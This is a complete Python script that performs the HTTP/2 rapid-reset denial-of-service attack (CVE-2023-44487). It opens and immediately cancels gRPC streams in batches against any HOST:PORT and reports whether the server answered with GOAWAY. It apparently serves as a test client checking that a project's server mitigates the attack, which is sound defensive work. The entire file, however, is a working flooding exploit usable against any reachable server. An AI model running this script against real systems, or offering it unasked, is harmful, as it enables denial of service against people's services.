"""A rapid-reset flood (CVE-2023-44487) sent with Python's h2 package, a
client from outside the project: open a gRPC request stream and cancel it at
once, in batches, until the server sends GOAWAY or closes the socket.

    python3 rapid_reset.py HOST:PORT STREAMS

Prints one JSON line: {"streams": sent, "goaway": error code or null}.
"""

import json
import socket
import sys

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    total = int(sys.argv[2])
    sock = socket.create_connection((host, int(port)), timeout=10)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", sys.argv[1]),
        (":path", "/trellis.test.echo.v1.Echo/Unary"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    sent, goaway = 0, None
    try:
        while sent < total and goaway is None:
            for _ in range(100):
                stream_id = conn.get_next_available_stream_id()
                conn.send_headers(stream_id, headers)
                conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                sent += 1
            sock.sendall(conn.data_to_send())
            sock.setblocking(False)
            try:
                data = sock.recv(65536)
                if not data:
                    break
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaway = int(event.error_code)
            except BlockingIOError:
                pass
            finally:
                sock.setblocking(True)
        # Wait for the server's verdict if it has not come yet.
        sock.settimeout(5)
        while goaway is None:
            data = sock.recv(65536)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    goaway = int(event.error_code)
    except (ConnectionError, socket.timeout, h2.exceptions.ProtocolError):
        pass
    print(json.dumps({"streams": sent, "goaway": goaway}))


if __name__ == "__main__":
    main()
